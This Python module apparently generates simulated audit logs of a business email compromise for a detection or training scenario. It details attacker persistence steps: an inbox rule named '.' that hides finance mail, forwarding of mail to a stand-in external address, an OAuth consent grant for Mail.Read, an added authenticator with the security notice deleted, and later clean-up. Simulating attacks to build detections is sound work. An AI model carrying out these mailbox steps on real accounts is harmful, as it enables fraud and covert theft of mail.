"""The acts by which the attacker stays: rules, forwarding, consent, second factor, clean-up."""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from bec_kit.scenarios.clock import at
from bec_kit.scenarios.places import SERVICE
from bec_kit.scenarios.records import cmdlet, mailbox, other, state
from bec_kit.scenarios.records.directory import Change, Target
from bec_kit.scenarios.session import GRAPH

if TYPE_CHECKING:
    from bec_kit.scenarios.attack import Attack
    from bec_kit.scenarios.session import Session

__all__ = ["clean_up", "consent", "forward", "hide", "second_factor"]

MAILDROP = "ledger.archive@mailbox-archive.example"
WORDS = "invoice;payment;iban;remittance;northgate"
APP_NAME = "Ledger Mail Sync"


def hide(attack: Attack, session: Session) -> None:
    """A rule named `.` moves what speaks of money to RSS Feeds, already read."""
    moment = at(attack.first, "16:05:27")
    made = attack.scribe.audit(
        cmdlet.by_person(
            attack.company,
            attack.dice,
            session,
            moment,
            "New-InboxRule",
            {
                "AlwaysDeleteOutlookRulesBlob": "False",
                "Force": "False",
                "MoveToFolder": "RSS Feeds",
                "Name": ".",
                "SubjectOrBodyContainsWords": WORDS,
                "MarkAsRead": "True",
                "StopProcessingRules": "True",
            },
            cmdlet.rule_object(attack.victim, "."),
        )
    )
    attack.act(
        "hiding-rule",
        moment,
        "An inbox rule named '.' moves mail about money to RSS Feeds, marked as read.",
        "PE-01 PE-03 PE-04",
        [made],
    )


def forward(attack: Attack, session: Session) -> None:
    """A rule forwards outside at once; in the evening the whole mailbox does."""
    moment = at(attack.first, "16:12:09")
    made = attack.scribe.audit(
        cmdlet.by_person(
            attack.company,
            attack.dice,
            session,
            moment,
            "New-InboxRule",
            {
                "AlwaysDeleteOutlookRulesBlob": "False",
                "Force": "False",
                "ForwardTo": f"smtp:{MAILDROP}",
                "Name": "..",
                "SubjectOrBodyContainsWords": "bank;transfer",
                "StopProcessingRules": "False",
            },
            cmdlet.rule_object(attack.victim, ".."),
        )
    )
    attack.book.rules.append(state.forwarding_rule("..", 2, MAILDROP, ("bank", "transfer")))
    attack.act(
        "forwarding-rule",
        moment,
        f"An inbox rule named '..' forwards mail about transfers to {MAILDROP}.",
        "PE-02",
        [made],
        may="PE-03 PE-04 PE-06",
    )
    raised = at(attack.first, "16:21:40")
    alert_id = attack.dice.guid()
    alerts = [
        attack.scribe.audit(
            other.alert(
                attack.company,
                attack.dice,
                raised + timedelta(seconds=step),
                operation=operation,
                alert_id=alert_id,
                name="Creation of forwarding/redirect rule",
                severity="Low",
                user=attack.victim.upn,
                cause="New-InboxRule",
                record_id=made,
            )
        )
        for step, operation in enumerate(("AlertTriggered", "AlertEntityGenerated"))
    ]
    attack.act(
        "alert",
        raised,
        "The service itself raises an alert about the forwarding rule.",
        "AL-01",
        alerts,
    )
    evening = at(attack.first, "18:52:14")
    on = attack.scribe.audit(
        cmdlet.by_person(
            attack.company,
            attack.dice,
            session,
            evening,
            "Set-Mailbox",
            {
                "Identity": attack.victim.upn,
                "ForwardingSmtpAddress": f"smtp:{MAILDROP}",
                "DeliverToMailboxAndForward": "False",
            },
            attack.victim.upn,
        )
    )
    found = [on]
    for clock, sender, subject in (
        ("20:14:50", attack.customer, "Remittance advice, hull 109"),
        ("22:40:02", "updates@admiralty-charts.example", "Tide tables for the coming week"),
        ("06:33:19", "sales@westcountry-rope.example", "Your order is on its way"),
    ):
        day = attack.second if clock < "12" else attack.first
        message = attack.room.compose(
            attack.dice, sender, (attack.victim.upn, MAILDROP), subject, at(day, clock)
        )
        found += attack.scribe.deliver(message)
    attack.act(
        "mailbox-forwarding",
        evening,
        f"The whole mailbox forwards to {MAILDROP} and keeps no copy.",
        "PE-07",
        found,
        may="PE-08",
    )


def consent(attack: Attack, session: Session) -> None:
    """The account trusts an app with its mail, and the app reads it through Graph."""
    moment = at(attack.first, "11:02:33")
    app_id, object_id = attack.dice.guid(), attack.dice.guid()
    grant = (
        f"[] => [[Id: {attack.dice.letters(43)}, ClientId: {object_id}, "
        f"PrincipalId: {attack.victim.object_id}, ResourceId: {attack.dice.guid()}, "
        "ConsentType: Principal, Scope:  Mail.Read offline_access openid profile, "
        "CreatedDateTime: , LastModifiedDateTime ]]; "
    )
    target = Target(object_id, "ServicePrincipal", APP_NAME, app_id)

    def change(operation: str, kind: str, properties: dict[str, tuple[str, str]]) -> Change:
        return Change(
            operation,
            "ApplicationManagement",
            "Core Directory",
            kind,
            attack.victim,
            session.ip,
            session.device.user_agent,
            target,
            properties,
        )

    steps = (
        change(
            "Add service principal",
            "Add",
            {"AppId": ("", app_id), "DisplayName": ("", APP_NAME)},
        ),
        change(
            "Add delegated permission grant",
            "Assign",
            {
                "DelegatedPermissionGrant.Scope": ("", " Mail.Read offline_access openid profile"),
                "DelegatedPermissionGrant.ConsentType": ("", "Principal"),
                "ServicePrincipal.ObjectID": ("", object_id),
            },
        ),
        change(
            "Consent to application",
            "Assign",
            {
                "ConsentContext.IsAdminConsent": ("", "False"),
                "ConsentContext.IsAppOnly": ("", "False"),
                "ConsentContext.OnBehalfOfAll": ("", "False"),
                "ConsentAction.Permissions": ("", grant),
                "TargetId.ServicePrincipalNames": ("", app_id),
            },
        ),
    )
    found = [
        one
        for number, step in enumerate(steps)
        for one in attack.scribe.change(step, moment + timedelta(milliseconds=700 * number))
    ]
    attack.act(
        "consent",
        moment,
        f"The account grants the app '{APP_NAME}' Mail.Read and offline_access.",
        "PE-12 PE-13",
        found,
        may="PE-15",
    )
    used = at(attack.first, "11:09:51")
    inbox = [m for m in attack.room.inboxes[attack.victim.upn] if m.sent_at < used]
    reads = [
        attack.scribe.audit(
            mailbox.service_bind(
                attack.company,
                attack.dice,
                attack.victim,
                used + timedelta(minutes=61 * step),
                inbox[-6 + 3 * step : len(inbox) if step else -3],
                ip=SERVICE[1],
                client="Client=REST;;",
                app_id=GRAPH.id,
                client_app_id=app_id,
            )
        )
        for step in range(2)
    ]
    attack.act(
        "app-reads",
        used,
        "The app reads the mailbox through Graph, from Microsoft's own address.",
        "CO-13",
        reads,
        may="CO-02 CO-04 CO-05",
    )


def second_factor(attack: Attack, session: Session) -> None:
    """An authenticator is added, and the notice of it destroyed."""
    moment = at(attack.first, "11:20:16")
    token = attack.dice.guid()
    target = Target(attack.victim.object_id, "User", attack.victim.name, attack.victim.upn)
    agent = session.device.user_agent
    old = '[\r\n  {\r\n    "MethodType": 6,\r\n    "Default": true\r\n  }\r\n]'
    new = old[:-3] + ',\r\n  {\r\n    "MethodType": 7,\r\n    "Default": false\r\n  }\r\n]'
    device = (
        f'[\r\n  {{\r\n    "DeviceName": "SM-G991B",\r\n    "DeviceToken": "{token}",'
        '\r\n    "PhoneAppVersion": "6.2501.0012"\r\n  }\r\n]'
    )
    registered = Change(
        "User registered security info",
        "UserManagement",
        "Authentication Methods",
        "Add",
        attack.victim,
        session.ip,
        agent,
        target,
        {},
        "User registered Authenticator App with Notification and Code",
    )
    updated = Change(
        "Update user",
        "UserManagement",
        "Core Directory",
        "Update",
        attack.victim,
        session.ip,
        agent,
        target,
        {
            "StrongAuthenticationMethod": (old, new),
            "StrongAuthenticationPhoneAppDetail": ("[]", device),
            "Included Updated Properties": (
                "",
                "StrongAuthenticationMethod, StrongAuthenticationPhoneAppDetail",
            ),
        },
    )
    first = attack.scribe.entra_only(registered, moment)
    more = attack.scribe.change(updated, moment + timedelta(seconds=1))
    attack.book.methods.append(state.authenticator(token, "SM-G991B", moment))
    attack.act(
        "second-factor",
        moment,
        "An authenticator app on an unknown telephone is added to the account.",
        "PE-16",
        [first, *more],
    )
    notice = attack.room.compose(
        attack.dice,
        "security-noreply@accounts.example",
        (attack.victim.upn,),
        "New security info was added to your account",
        moment + timedelta(seconds=50),
    )
    attack.scribe.deliver(notice)
    gone = attack.scribe.audit(
        mailbox.moved(
            attack.company,
            attack.dice,
            session,
            moment + timedelta(minutes=3),
            "SoftDelete",
            [notice],
            "\\Inbox",
        )
    )
    attack.act(
        "destroy-notice",
        moment + timedelta(minutes=3),
        "The notice of the new security info is destroyed.",
        "DE-02",
        [gone],
    )


def clean_up(attack: Attack, session: Session) -> None:
    """Forwarding is cleared in the morning, and the hiding rule removed in the afternoon."""
    cleared = attack.scribe.audit(
        cmdlet.by_person(
            attack.company,
            attack.dice,
            session,
            at(attack.second, "07:41:05"),
            "Set-Mailbox",
            {
                "Identity": attack.victim.upn,
                "ForwardingSmtpAddress": "",
                "DeliverToMailboxAndForward": "False",
            },
            attack.victim.upn,
        )
    )
    moment = at(attack.second, "15:10:44")
    removed = attack.scribe.audit(
        cmdlet.by_person(
            attack.company,
            attack.dice,
            session,
            moment,
            "Remove-InboxRule",
            {"AlwaysDeleteOutlookRulesBlob": "False", "Force": "False", "Identity": "."},
            cmdlet.rule_object(attack.victim, "."),
        )
    )
    attack.act(
        "clean-up",
        moment,
        "The attacker clears the mailbox's forwarding and removes the rule named '.'.",
        "DE-09",
        [cleared, removed],
        may="PE-06 PE-08",
    )
